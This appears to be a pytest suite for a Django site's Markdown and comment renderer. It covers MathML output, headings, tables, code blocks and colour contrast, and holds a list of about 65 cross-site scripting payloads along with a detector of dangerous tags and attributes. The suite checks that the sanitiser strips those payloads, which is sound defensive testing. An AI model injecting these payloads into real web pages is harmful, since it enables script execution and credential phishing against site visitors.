"""One renderer: what an author means arrives, what an attacker means does not."""

import re
from html import unescape as html_unescape
from pathlib import Path

import pytest
from django.core.cache import cache
from django.utils import translation

from jieti.lib.markdown import render, render_comment
from jieti.settings.paths import PACKAGE

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![<table onerror=alert(1) x="](x.svg "<table onmouseover=alert(1)>")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<button onclick=alert(1)>x</button>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<div hx-get='https://evil.example' hx-trigger='load'>x</div>",
    "<p data-hx-on:load='alert(1)'>x</p>",
    "<video><source onerror=alert(1)></video>",
    "## x {onclick=alert(1)}",
    "text {: onmouseover=alert(1) style=color:red }",
    "```python {onclick=alert(1)}\nx\n```",
    "$<script>alert(1)</script>$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "$\\href{javascript:alert(1)}{x}$",
    "x\n: <script>alert(1)</script>",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '!!! note "<script>alert(1)</script>"\n    x',
    '??? question "<img src=x onerror=alert(1)>"\n    x',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<p class='site-header skip'>x</p>",
    "\x00<script>alert(1)</script>",
]

TAG = re.compile(r"<([a-zA-Z][\w-]*)((?:\s+[^\s=>]+(?:=\"[^\"]*\")?)*)\s*/?>")
ATTRIBUTE = re.compile(r"\s([^\s=>]+)(?:=\"([^\"]*)\")?")
BAD_TAGS = set("script style iframe object embed form input button link meta base svg template source video".split())


def harm(html: str) -> list[str]:
    """Return whatever in well-formed HTML could run, load or fake something."""
    found = []
    for tag, attributes in TAG.findall(html):
        if tag.lower() in BAD_TAGS:
            found.append(tag)
        for name, value in ATTRIBUTE.findall(attributes):
            plain = re.sub(r"[\t\r\n]", "", html_unescape(value)).lower()
            if name.startswith(("on", "hx-", "data-")) or name in ("style", "srcdoc", "xlink:href", "formaction"):
                found.append(name)
            if name in ("href", "src") and re.match(r"\s*(javascript|vbscript|data):", plain):
                found.append(value)
            if name == "src" and not plain.startswith("/"):
                found.append(value)
            if name == "class" and ("site-header" in value or "skip" in value):
                found.append(value)
    return found


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_harmful_leaves_the_renderer(vector: str) -> None:
    assert not harm(render(vector, "/curriculum/lessons/x/").html)
    assert not harm(render_comment(vector))


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_harmful_reaches_the_contents(vector: str) -> None:
    for heading in render(f"## {vector}").toc:
        assert not harm(heading.html) and "<a" not in heading.html


def test_the_check_itself_sees_harm() -> None:
    assert (
        harm('<p onclick="x">')
        and harm("<script>")
        and harm('<img src="https://x">')
        and harm('<a href="javascript:x">')
    )


def test_headings_have_ids_and_contents() -> None:
    rendered = render("## 缩放 {#scale}\n\n### 为什么 $\\sqrt d$\n")
    assert '<h2 id="scale">缩放</h2>' in rendered.html
    assert [(heading.level, heading.id) for heading in rendered.toc][0] == (2, "scale")
    assert "<msqrt>" in rendered.toc[1].html


def test_formulas_become_mathml() -> None:
    html = render("Here $a<b$ and\n\n$$\n\\frac{QK^\\top}{\\sqrt{d_k}}\n$$\n").html
    assert html.count("<math") == 2 and 'display="block"' in html and "<mfrac>" in html and "&lt;" in html


def test_a_formula_nobody_understands_is_shown_as_it_was_written() -> None:
    assert '<code class="tex">\\nosuchcommand{x}</code>' in render("$\\nosuchcommand{x}$").html


@pytest.mark.parametrize("tex", ["\\frac{1", "\\left(", "{", "\\begin{matrix}", "\\sqrt"])
def test_a_broken_formula_breaks_nothing(tex: str) -> None:
    assert "after" in render(f"${tex}$\n\nafter").html


def test_functions_stand_apart_from_their_arguments() -> None:
    html = render("$\\sin a\\cos b$ $\\ln(x)$").html
    assert html.count("<mspace") == 3
    assert '<mi>sin</mi><mspace width="0.167em"></mspace><mi>a</mi><mspace' in html and "<mi>ln</mi><mo" in html


@pytest.mark.parametrize(("tex", "spaces"), [("\\ln p_i", 1), ("\\log_2 x", 0), ("\\sin^2 x", 0), ("x_\\ln", 0)])
def test_a_function_with_scripts_keeps_its_shape(tex: str, spaces: int) -> None:
    assert render(f"${tex}$").html.count("<mspace") == spaces


def test_a_minus_sign_is_no_subtraction() -> None:
    html = render("$(-1, -2) = -x$ $a - b$ $f(x) - 1$").html
    assert html.count('<mo form="prefix">−</mo>') == 3 and html.count("<mo>−</mo>") == 2


def test_punctuation_stays_with_its_formula() -> None:
    html = render("得 $a$。再看（$b$）和 $c$ 。").html
    assert '<span class="together"><math' in html and "</math>。</span>" in html
    assert '<span class="together">（<math' in html and html.count("together") == 2


def test_money_is_no_formula() -> None:
    assert "<math" not in render("It costs $5 and $6.").html


def test_aligned_equations() -> None:
    html = render("$$\n\\begin{aligned}a&=b\\\\c&=d\\end{aligned}\n$$").html
    assert "<mtable" in html and "&amp;" not in html


def test_code_is_coloured_and_can_be_scrolled_by_keyboard() -> None:
    html = render("```python\ndef f(): ...\n```").html
    assert '<span class="k">def</span>' in html and '<pre tabindex="0"' in html


def test_a_fence_with_classes_of_its_own_can_be_scrolled_too() -> None:
    html = render("```{.python .run}\nprint(1)\n```\n\n```{.text .output}\n1\n```").html
    assert html.count('<pre tabindex="0"') == 2
    assert '<div class="run highlight"><pre' in html


@pytest.mark.parametrize(("language", "label"), [("en", "Output"), ("zh-hans", "输出")])
def test_what_code_prints_is_called_so(language: str, label: str) -> None:
    with translation.override(language):
        html = render("```{.python .run}\nprint(1)\n```\n\n```{.text .output}\n1\n```").html
    assert f'<div class="output highlight"><p class="output-title">{label}</p><pre tabindex="0"' in html
    assert html.count(f'aria-label="{label}"') == html.count("output-title") == 1


MATHS = [
    ("\\left(\\frac12\\right)", 'stretchy="true"', 'fence="true"', 'form="prefix"'),
    ("\\mathrm{softmax}", 'mathvariant="normal"'),
    ("\\hat{x}", 'accent="true"'),
    ("\\displaystyle\\sum_i x_i", 'displaystyle="true"', 'scriptlevel="0"'),
    ("\\binom{n}{k}", 'linethickness="0"'),
    ("\\big(", 'minsize="1.2em"', 'maxsize="1.2em"'),
    ("a\\quad b", '<mspace width="1em">'),
    ("\\begin{cases}1&x\\\\2&y\\end{cases}", '<mtd columnalign="left">'),
    ("\\begin{aligned}a&=b\\end{aligned}", '<mtd columnalign="right">', 'rowspacing="3pt"', "columnspacing="),
]


@pytest.mark.parametrize("formula", MATHS, ids=lambda formula: formula[0])
def test_what_shapes_a_formula_survives(formula: tuple[str, ...]) -> None:
    tex, *shapes = formula
    html = render(f"$$\n{tex}\n$$").html
    assert not [shape for shape in shapes if shape not in html]


def test_tables_scroll_in_their_own_box() -> None:
    with translation.override("zh-hans"):
        html = render("| a | b |\n|---|---|\n| 1 | 2 |").html
    box = html[: html.index("<table")]
    assert 'class="table-scroll"' in box and 'tabindex="0"' in box and 'aria-label="表格"' in box


def test_questions_fold_and_notes_stand_out() -> None:
    html = render('??? question "Why?"\n    Because.\n\n!!! note\n    Mind this.').html
    assert '<details class="question">' in html and "<summary>Why?</summary>" in html
    assert '<div class="admonition note">' in html


@pytest.mark.parametrize(("language", "titles"), [("en", ("Note", "Hint")), ("zh-hans", ("说明", "提示"))])
def test_notes_without_a_title_get_one_in_the_readers_language(language: str, titles: tuple[str, str]) -> None:
    with translation.override(language):
        html = render("!!! note\n    Mind this.\n\n- a list\n\n    ??? hint\n        Fold.").html
    assert f'<p class="admonition-title">{titles[0]}</p>' in html
    assert f'<details class="hint"><summary>{titles[1]}</summary>' in html.replace(">\n<", "><")


def test_a_title_is_the_authors_where_there_is_one() -> None:
    with translation.override("zh-hans"):
        html = render('!!! note "Note"\n    x\n\n!!! note ""\n    y\n\n```text\n!!! note\n```').html
    assert html.count("admonition-title") == 1 and ">Note</p>" in html and "说明" not in html


def test_pictures_come_from_the_lessons_folder() -> None:
    html = render("![A graph](graph.svg)", "/curriculum/lessons/x/").html
    assert '<img alt="A graph" src="/curriculum/lessons/x/graph.svg">' in html
    assert "src" not in render("![A graph](../../etc/passwd)", "/curriculum/lessons/x/").html


def test_links_out_open_elsewhere_and_pass_nothing_on() -> None:
    html = render("[out](https://example.org) [in](/today/) [here](#scale)").html
    assert '<a href="https://example.org" target="_blank" rel="noopener nofollow">' in html
    assert html.count("_blank") == 1


def test_footnotes() -> None:
    html = render("Text[^1]\n\n[^1]: The note.").html
    assert 'href="#fn:1"' in html and 'id="fn:1"' in html and 'href="#fnref:1"' in html


def test_the_same_text_is_rendered_once_per_language() -> None:
    cache.clear()
    text = "| a |\n|---|\n| 1 |"
    with translation.override("en"):
        assert render(text) is not None and 'aria-label="Table"' in render(text).html
    with translation.override("zh-hans"):
        assert 'aria-label="表格"' in render(text).html


def test_comments_are_smaller() -> None:
    html = render_comment("# Not a heading\n**bold** <b>shown</b>\nnext line\n\n```python\nx = 1\n```\n![p](x.svg)")
    assert "<h1" not in html and "<img" not in html
    assert "<strong>bold</strong>" in html and "&lt;b&gt;shown&lt;/b&gt;" in html and "<br>" in html
    assert '<div class="highlight">' in html


def test_comments_have_no_ids_to_collide_with_the_page() -> None:
    assert "id=" not in render_comment("text {#main}\n\n<p id=main>x</p>").replace("&lt;p id=main&gt;", "")


def luminance(colour: str) -> float:
    parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [part / 12.92 if part <= 0.03928 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(one: str, other: str) -> float:
    high, low = sorted((luminance(one), luminance(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize(("block", "grounds"), [(0, ("#f4f2ec", "#ffffff")), (1, ("#121416", "#1e2125"))])
def test_code_can_be_read_in_both_themes(block: int, grounds: tuple[str, str]) -> None:
    css = Path(PACKAGE / "static/css/code.css").read_text()
    colours = re.findall(r"--code-\w+: (#\w{6});", re.split(r"@media", css)[block])
    assert len(colours) == 10
    assert all(contrast(colour, ground) >= 4.5 for colour in colours for ground in grounds)
